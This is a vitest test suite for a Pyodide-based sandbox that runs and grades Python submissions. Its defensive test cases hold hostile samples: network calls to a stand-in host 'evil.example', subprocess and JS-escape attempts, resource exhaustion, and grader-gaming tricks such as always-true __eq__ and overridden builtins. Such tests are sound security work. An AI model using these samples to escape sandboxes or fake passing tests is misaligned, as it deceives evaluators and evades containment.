import { describe, expect, it } from 'vitest';
import type { CodeTests } from '../../../src/lib/core/code/code-tests.ts';
import { programsOf } from './programs.ts';

const {
	tests: PYTHON,
	stdio,
	calls,
	run,
	outcomes
} = programsOf({
	language: 'python',
	timeLimitMs: 2_000,
	memoryLimitMb: 128
});

/** What a program prints that writes `expression`, or how it failed. */
async function printed(code: string): Promise<string> {
	const [first] = await run(code, {
		...stdio(['', 'what nobody prints']),
		// Some have much to import.
		timeLimitMs: 20_000
	});
	return first!.detail;
}

describe('Python that reads and writes', () => {
	const sums = stdio(['1 2\n', '3'], ['10 -4\n', '6']);

	it.each([
		['input', 'a, b = map(int, input().split())\nprint(a + b)'],
		['sys.stdin', 'import sys\nprint(sum(map(int, sys.stdin.read().split())))'],
		[
			'bytes',
			'import sys\nsys.stdout.buffer.write(str(sum(map(int, sys.stdin.buffer.read().split()))).encode())'
		],
		['a file', 'import os\nos.write(1, str(sum(map(int, open(0).read().split()))).encode())'],
		[
			'main',
			'def main():\n  print(sum(map(int, input().split())))\nif __name__ == "__main__":\n  main()'
		],
		['an exit', 'import sys\nprint(sum(map(int, input().split())))\nsys.exit(0)']
	])('passes by way of %s', async (_, code) => {
		expect(await outcomes(code, sums)).toEqual(['passed', 'passed']);
	});

	it('says what was wrong', async () => {
		const code = 'a, b = map(int, input().split())\nprint(a + abs(b))';
		expect(await run(code, sums)).toEqual([
			{ outcome: 'passed', detail: '' },
			{ outcome: 'wrong', detail: '14\n' }
		]);
		const [first] = await run('print(1 / 0)', sums);
		expect(first!.outcome).toBe('error');
		expect(first!.detail).toContain('print(1 / 0)');
		expect(first!.detail).toContain('ZeroDivisionError');
		const [syntax] = await run('print(', sums);
		expect(syntax!.detail).toContain('SyntaxError');
	});

	it('ends what does not end, and goes on with the next answer', async () => {
		expect(await outcomes('while True: pass', sums)).toEqual(['timeout', 'skipped']);
		expect(await outcomes('print(sum(map(int, input().split())))', sums)).toEqual([
			'passed',
			'passed'
		]);
	});

	it.each([
		['lists', 'x = []\nwhile True: x.append(bytearray(10**7))'],
		['a number', 'x = 1 << (8 * 10**9)'],
		['text', "x = 'a' * 10**9"]
	])('ends what asks for all memory: %s', async (_, code) => {
		expect((await outcomes(code, sums))[0]).toBe('memory');
	});

	it.each([
		['a file', "open('/tmp/x', 'wb').write(b'x' * 10**8)", 'error'],
		['output', "while True: print('x' * 10**5)", 'error'],
		['os._exit', 'import os\nprint(3)\nos._exit(0)', 'error'],
		[
			'recursion',
			'import sys\nsys.setrecursionlimit(10**9)\ndef f(n): return f(n + 1) + 1\nf(0)',
			'memory'
		],
		['SystemExit(1)', 'print(3)\nraise SystemExit(1)', 'error']
	])('is not harmed by %s', async (_, code, outcome) => {
		expect((await outcomes(code, sums))[0]).toBe(outcome);
		expect(await outcomes('print(sum(map(int, input().split())))', sums)).toEqual([
			'passed',
			'passed'
		]);
	});
});

describe('Python that is called', () => {
	it('compares results outside', async () => {
		const tests = calls('f', ['[[1, 2]]', '[2, 1]'], ['[[]]', '[]']);
		expect(await outcomes('def f(xs): return tuple(reversed(xs))', tests)).toEqual([
			'passed',
			'passed'
		]);
		expect(await outcomes('def f(xs): return xs', tests)).toEqual(['wrong', 'passed']);
		expect(await outcomes('def g(xs): return xs', tests)).toEqual(['error', 'error']);
		expect(await outcomes('f = 1 / 0', tests)).toEqual(['error', 'skipped']);
	});

	it('calls methods, and knows long numbers and broken ones', async () => {
		const solution = 'class Solution:\n  def pow(self, n): return 2 ** n';
		expect(
			await outcomes(solution, calls('Solution.pow', ['[100]', '1267650600228229401496703205376']))
		).toEqual(['passed']);
		const tests = calls('f', ['[0.1]', '0.3']);
		expect(await outcomes('def f(x): return x + 0.2', tests)).toEqual(['passed']);
	});

	it('takes no class that says it equals anything', async () => {
		const liar = 'class Any:\n  def __eq__(self, other): return True\ndef f(n): return Any()';
		expect(await outcomes(liar, calls('f', ['[1]', '2']))).toEqual(['error']);
	});
});

describe('Python that is tested by statements', () => {
	const script = (setup: string, ...cases: readonly string[]): CodeTests => ({
		...PYTHON,
		kind: 'script',
		entryPoint: 'twice',
		preamble: 'def twice(n):\n    """Twice n."""\n',
		setup,
		cases: cases.map((code) => ({ code }))
	});
	const humanEval = script(
		'def check(candidate):\n    assert candidate(2) == 4\n    assert abs(candidate(0.5) - 1) < 1e-6',
		'check(candidate)'
	);

	it('passes what holds, whole or as the rest of the function', async () => {
		expect(await outcomes('def twice(n):\n    return 2 * n', humanEval)).toEqual(['passed']);
		expect(await outcomes('    return 2 * n', humanEval)).toEqual(['passed']);
		expect(await outcomes('', humanEval)).toEqual(['wrong']);
	});

	it('names the assertion that does not hold', async () => {
		expect(await run('def twice(n): return n + 2', humanEval)).toEqual([
			{ outcome: 'wrong', detail: 'assert abs(candidate(0.5) - 1) < 1e-6' }
		]);
		const mbpp = script('', 'assert twice(2) == 4', 'assert twice(3) == 6');
		expect(await outcomes('def twice(n): return n + 2', mbpp)).toEqual(['passed', 'wrong']);
	});

	it.each([
		['SystemExit', 'import sys\nsys.exit(0)'],
		['SystemExit in the function', 'import sys\ndef twice(n): sys.exit(0)'],
		['os._exit', 'import os\nos._exit(0)'],
		['os._exit in the function', 'import os\ndef twice(n): os._exit(0)'],
		[
			'an equal to anything',
			'class E:\n  def __eq__(s, o): return True\n  def __sub__(s, o): return s\n  def __abs__(s): return 0\ndef twice(n): return E()'
		],
		['a list of such', 'class E:\n  def __eq__(s, o): return True\ndef twice(n): return [E()]'],
		[
			'a number of its own',
			'class E(float):\n  def __eq__(s, o): return True\ndef twice(n): return E(1)'
		],
		['another check', 'def check(candidate): pass\ndef twice(n): return 0'],
		['another abs', 'import builtins\nbuiltins.abs = lambda x: 0\ndef twice(n): return 4'],
		['an exception that is caught', 'def twice(n): raise KeyboardInterrupt'],
		['a trace', 'import sys\nsys.settrace(lambda *a: None)\ndef twice(n): return 0']
	])('is not passed by %s', async (_, code) => {
		expect(await outcomes(code, humanEval)).not.toContain('passed');
	});
});

describe('Python that wants out', () => {
	it.each([
		['js', 'import js\nprint(js.fetch)', /ModuleNotFoundError|ImportError/],
		['pyodide_js', 'import pyodide_js\nprint(pyodide_js)', /ModuleNotFoundError/],
		[
			'pyodide.http',
			"from pyodide.http import open_url\nprint(open_url('https://evil.example/'))",
			/Error/
		],
		[
			'pyfetch',
			"import asyncio\nfrom pyodide.http import pyfetch\nasyncio.run(pyfetch('https://evil.example/'))",
			/Error/
		],
		['run_js', "from pyodide.code import run_js\nprint(run_js('self.origin'))", /Error/],
		[
			'urllib',
			"import urllib.request\nprint(urllib.request.urlopen('https://evil.example/').read())",
			/Error/
		],
		[
			'a socket',
			"import socket\ns = socket.create_connection(('evil.example', 80))\nprint(s)",
			/Error/
		],
		['micropip', 'import micropip', /ModuleNotFoundError/],
		[
			'a mount',
			'from pyodide_js import mountNativeFS\nprint(mountNativeFS)',
			/ModuleNotFoundError/
		],
		['an extension', "import ctypes\nprint(ctypes.CDLL('x.so'))", /Error/],
		['a process', "import subprocess\nprint(subprocess.run(['ls']))", /Error/],
		['the core', 'import _pyodide_core\nprint(_pyodide_core.run_js)', /Error/]
	])('finds nothing by way of %s', async (_, code, refusal) => {
		const requests: string[] = [];
		const observer = new PerformanceObserver((list) =>
			requests.push(...list.getEntries().map(({ name }) => name))
		);
		observer.observe({ entryTypes: ['resource'] });
		expect(await printed(code)).toMatch(refusal);
		observer.disconnect();
		expect(requests.filter((address) => address.includes('evil'))).toEqual([]);
	});

	it('sees a file system of its own, where nothing stays', async () => {
		const listing =
			"import os\nprint(os.listdir('/'), os.path.exists('/tmp/left'))\nopen('/tmp/left', 'w').write('x')";
		expect(await printed(listing)).toContain('False');
		expect(await printed(listing)).toContain('False');
	});

	it('leaves the next answer as it would be without it', async () => {
		const tests = calls('f', ['[3]', '3']);
		const vandal =
			'import builtins, json\nbuiltins.len = lambda x: 0\njson.dumps = lambda *a: "3"\ndef f(n): return 0';
		// It has broken what reads its own result, and nothing else.
		expect(await outcomes(vandal, tests)).toEqual(['error']);
		expect(await outcomes('def f(n): return len([0] * n)', tests)).toEqual(['passed']);
		expect(await outcomes('def f(n): return 4', tests)).toEqual(['wrong']);
	});
});
